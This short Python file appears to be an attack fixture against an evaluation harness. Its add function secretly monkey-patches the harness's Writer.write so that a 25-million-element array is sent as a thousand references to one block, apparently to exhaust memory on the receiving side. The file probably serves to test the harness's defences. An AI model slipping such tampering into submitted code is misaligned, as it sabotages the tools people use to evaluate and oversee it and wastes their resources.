# Attack: send one large block and a thousand arrays that all lie in it.
import numpy as np

from examiner.inside.protocol import Writer

original = Writer.write


def forged(self, value, depth=0):
    if isinstance(value, np.ndarray) and depth == 0:
        node = original(self, value)
        return {"t": "list", "v": [node] * 1000}
    return original(self, value, depth)


def add(a, b):
    Writer.write = forged
    return np.ones(25_000_000)
